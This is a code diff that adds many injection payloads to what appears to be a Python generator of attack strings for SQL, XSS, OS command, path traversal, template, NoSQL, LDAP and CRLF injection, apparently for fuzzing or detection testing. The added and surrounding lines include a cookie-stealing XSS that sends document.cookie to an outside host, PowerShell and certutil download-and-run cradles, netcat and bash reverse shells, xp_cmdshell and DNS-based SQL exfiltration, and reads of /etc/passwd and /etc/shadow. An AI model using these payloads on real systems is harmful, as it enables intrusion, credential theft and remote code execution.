@@ -97,6 +97,21 @@ def sql(r):
         f"{_word(r)}{q} OR {q}x{q} LIKE {q}x",
         f"{n} ORDER BY {k}--",
         f"{n}{q} GROUP BY {c} HAVING 1=1--",
+        f"{q};exec master..xp_cmdshell 'ping {_host(r)}'--",
+        f"{n}{q} || UTL_INADDR.get_host_address('{_host(r)}') --",
+        f"{n}{q} AND 1=CONVERT(int,@@version)--",
+        f"{n}; SELECT pg_sleep({k})--",
+        f"{_word(r)}{q} #",
+        f"{q} OR {q}{q}={q}",
+        f"{n} OR 1=1 LIMIT 1",
+        f"(SELECT * FROM (SELECT(SLEEP({k})))a)",
+        f"{n}{q} ORDER BY 10--+",
+        f"{q} AND 1 IN (SELECT @@version)--",
+        f"{n} AND 1=2 UNION SELECT 1,2,{c}",
+        f"{n}/**/OR/**/1=1",
+        f"{n}{q}/*!50000UNION*//*!50000SELECT*/{c}/**/FROM/**/{t}--",
+        f"{q}=sleep({k})={q}",
+        f"{n}{q} AND (SELECT SUBSTR({c},1,1) FROM {t} WHERE rownum=1)={q}a",
     ]
     return _sp(r, _case(r, r.choice(forms)))
 
@@ -124,6 +139,16 @@ def xss(r):
         f"<scr<script>ipt>{call}</script>",
         f"<div style=\"background:url(javascript:{call})\">",
         f"<marquee onstart={call}>",
+        f"';{call}//",
+        f"\"-{call}-\"",
+        f"</script><script>{call}</script>",
+        f"<img src=x:{fn} onerror=eval(src)>",
+        f"<iframe src=\"data:text/html;base64,{base64.b64encode(f'<script>{call}</script>'.encode()).decode()}\">",
+        f"<a href=javascript&colon;{call}>x</a>",
+        f"<svg><script>{call}</script></svg>",
+        f"<style>@import 'javascript:{call}';</style>",
+        f"<form><button formaction=javascript:{call}>x</button></form>",
+        f"<img src=\"x\" onerror=\"fetch('//{_host(r)}/?c='+document.cookie)\">",
     ]
     return r.choice(forms)
 
@@ -137,6 +162,10 @@ def cmd(r):
         "type C:\\Windows\\win.ini", "dir C:\\", "powershell -c Get-Process", "cat${IFS}/etc/passwd",
         "c'a't /e't'c/pa's'swd", "/???/c?t /???/p??s??", "net user", "ifconfig", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
         f"nslookup {host}", "echo $(id)", "tail -n 5 /etc/shadow",
+        "cmd.exe /c dir", "powershell.exe -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://x/a')\"",
+        "certutil -urlcache -split -f http://x/a.exe", "python3 -c 'import os;os.system(\"id\")'",
+        "perl -e 'print 1'", "php -r 'system(\"id\");'", "ruby -e 'exec \"id\"'", "busybox nc x 4444 -e sh",
+        "find / -perm -4000", "awk 'BEGIN {system(\"id\")}'", "sh -c id", "{ls,-la}",
     ])
     if sep == "`":
         payload = f"`{c}`"
@@ -169,6 +198,12 @@ def traversal(r):
         f"http://{_host(r)}/shell.txt?",
         f"zip://uploads/avatar.zip%23shell.php",
         "C:\\" + target.replace("/", "\\"),
+        "..;/" * depth + target,
+        "/" + "../" * depth + target,
+        "file://localhost/" + target,
+        "....\\\\" * depth + target.replace("/", "\\"),
+        "%c0%ae%c0%ae/" * depth + target,
+        "/proc/self/cwd/index.php",
     ]
     return r.choice(forms)
 
@@ -190,6 +225,16 @@ def template(r):
         "{{ self.__init__.__globals__.__builtins__ }}",
         "#{T(java.lang.System).getenv()}",
         "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
+        "<!--#exec cmd=\"id\" -->",
+        "<!--#include virtual=\"/etc/passwd\" -->",
+        "<esi:include src=\"http://evil.example/x\"/>",
+        "{php}echo `id`;{/php}",
+        "@(1+2)",
+        "[[${7*7}]]",
+        "{{7*7}}[[5*5]]",
+        "${{<%[%'\"}}%\\.",
+        "#{7*7}",
+        "${class.getResource(\"\").getPath()}",
     ]
     return r.choice(forms)
 
@@ -210,6 +255,13 @@ def nosql(r):
         f"db.{_table(r)}.find()",
         '{"$gt": ""}',
         f"{f}[$ne]=1",
+        "';sleep(5000);'",
+        "'||1==1//",
+        "{$where: 'sleep(5000)'}",
+        f"{f}[$regex]=.*",
+        f"{f}[$exists]=true",
+        json.dumps({f: {"$in": []}}),
+        "';return 'a'=='a' && ''=='",
     ]
     return r.choice(forms)
 
@@ -226,6 +278,10 @@ def ldap(r):
         f"*(|({attr}=*))",
         f"{w})(|(password=*))",
         f"*)(&(objectClass=user)({attr}=*",
+        f"{w})(|({attr}=*)",
+        f"*)({attr}=*))%00",
+        f"{w}*)(|(&",
+        "*()|%26'",
     ]
     return r.choice(forms)
 
@@ -285,6 +341,10 @@ def crlf(r):
         f"INBOX\r\nV100 CAPABILITY\r\nV101 FETCH {n_of(r)}",
         f"{_word(r)}\r\nA1 LOGIN admin secret",
         f"{_word(r)}\r\n\r\n<html>x</html>",
+        f"{email}%0ABcc:victim@example.net",
+        f"{_word(r)}\r\nV101 LIST \"\" *",
+        f"{_word(r)}\r\nMAIL FROM:<{email}>",
+        f"{_word(r)}\nX-Injected: 1",
     ]
     return r.choice(forms)
 
